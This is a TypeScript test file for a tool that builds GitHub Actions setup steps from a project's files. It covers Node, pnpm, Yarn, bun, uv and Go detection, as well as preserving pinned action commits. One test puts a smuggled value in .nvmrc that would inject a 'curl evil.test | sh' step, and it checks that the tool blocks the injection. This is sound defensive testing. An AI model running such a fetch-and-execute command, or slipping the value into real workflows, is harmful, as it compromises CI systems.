import { expect, test } from 'vitest';
import { parse } from 'yaml';
import { setupSteps, stepsText, workflowText, workflowUpdated } from '../../src/entry/workflow-text.ts';
import { findCommands } from '../../src/packages/commands.ts';

async function stepsOf(files: Record<string, string>): Promise<string> {
  const tree = { list: async () => Object.keys(files), read: async (path: string) => files[path] };
  return stepsText(await setupSteps(tree, await findCommands(tree, {})), new Map());
}

const script = (more = '') => `{${more}"scripts":{"test":"node --test"}}`;

test.each<[string, Record<string, string>, string[]]>([
  ['npm, which every runner has', { 'package.json': script(), 'package-lock.json': '{}' }, []],
  [
    'a version of Node',
    { 'package.json': script(), '.nvmrc': 'v22\n' },
    ['actions/setup-node@v4', "node-version: '22'"],
  ],
  [
    'pnpm by packageManager',
    { 'package.json': script('"packageManager":"pnpm@9.12.0+sha512.ab",'), 'pnpm-lock.yaml': '' },
    ['run: npm install --global pnpm@9.12.0\n'],
  ],
  [
    'pnpm by its lock file',
    { 'package.json': script(), 'pnpm-lock.yaml': "lockfileVersion: '6.0'\n" },
    ['run: npm install --global pnpm@8\n'],
  ],
  ['Yarn 1', { 'package.json': script(), 'yarn.lock': '# yarn lockfile v1\n' }, []],
  [
    'Yarn',
    { 'package.json': script(), 'yarn.lock': '__metadata:\n', '.yarnrc.yml': 'nodeLinker: pnp\n' },
    ['run: corepack enable yarn\n'],
  ],
  ['bun', { 'package.json': script(), 'bun.lock': '' }, ['run: npm install --global bun@latest\n']],
  [
    'Python with uv',
    { 'pyproject.toml': '# pytest\n', '.python-version': '3.11\n', 'uv.lock': '', 'tests/test_a.py': '' },
    ['actions/setup-python@v5', "python-version: '3.11'", 'run: pipx install uv\n'],
  ],
  ['Go', { 'go.mod': 'module a\n\ngo 1.22.3\n' }, ['actions/setup-go@v5', "go-version-file: 'go.mod'"]],
])('%s', async (_, files, parts) => {
  const steps = await stepsOf(files);
  if (parts.length === 0) expect(steps).toBe('');
  for (const part of parts) expect(steps).toContain(part);
  const { jobs } = parse(workflowText({ label: 'ai-implement', steps })) as {
    jobs: { implement: { steps: { uses?: string }[] } };
  };
  expect(jobs.implement.steps.at(-1)?.uses).toMatch(/redgreen/);
});

test('a version is a version: nothing else of a file goes into the workflow', async () => {
  const steps = await stepsOf({ 'package.json': script(), '.nvmrc': "22'\n      - run: curl evil.test | sh\n" });
  expect(steps.trim().split('\n')).toEqual([
    '- uses: actions/setup-node@v4',
    '        with:',
    "          node-version: '22'",
  ]);
});

test('each action keeps the commit that a person has pinned', async () => {
  const steps = await stepsOf({ 'go.mod': 'module a\n\ngo 1.22\n' });
  const wanted = workflowText({ label: 'ai-implement', steps });
  const pinned = wanted
    .replace('setup-go@v5', `setup-go@${'a'.repeat(40)} # v5`)
    .replace(/@v1$/gm, `@${'b'.repeat(40)} # v1`);
  expect(workflowUpdated(pinned, wanted)).toBe(pinned);
});
